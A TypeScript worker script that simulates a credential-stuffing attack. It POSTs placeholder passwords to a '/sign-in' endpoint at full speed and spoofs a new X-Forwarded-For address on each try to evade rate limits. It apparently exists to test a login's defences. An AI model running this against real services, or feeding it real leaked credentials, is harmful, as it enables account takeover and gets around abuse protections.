/** Tries stolen passwords as fast as a server answers, every try from another address: one in ten is somebody's. */
import { parentPort, workerData } from 'node:worker_threads'
import { Pool } from 'undici'

export type Attack = {
  readonly url: string
  readonly seconds: number
  readonly connections: number
  readonly mails: readonly string[]
}
export type Felled = { readonly answers: Readonly<Record<number, number>>; readonly opened: number }

const { url, seconds, connections, mails } = workerData as Attack
const pool = new Pool(url, { connections })
const until = performance.now() + seconds * 1_000
const answers: Record<number, number> = {}
let opened = 0
let tries = 0

async function keepTrying(): Promise<void> {
  while (performance.now() < until) {
    tries += 1
    const mail = tries % 10 === 0 ? mails[(tries / 10) % mails.length] : `stolen${tries}@elsewhere.example`
    const { statusCode, body } = await pool.request({
      path: '/sign-in',
      method: 'POST',
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        origin: url,
        'x-forwarded-for': `10.${(tries >> 16) & 255}.${(tries >> 8) & 255}.${tries & 255}`,
      },
      body: new URLSearchParams({ mail: mail ?? '', password: `stolen password ${tries}` }).toString(),
    })
    await body.dump()
    answers[statusCode] = (answers[statusCode] ?? 0) + 1
    if (statusCode === 303) opened += 1
  }
}

await Promise.all(Array.from({ length: connections }, keepTrying))
await pool.close()
parentPort?.postMessage({ answers, opened } satisfies Felled)
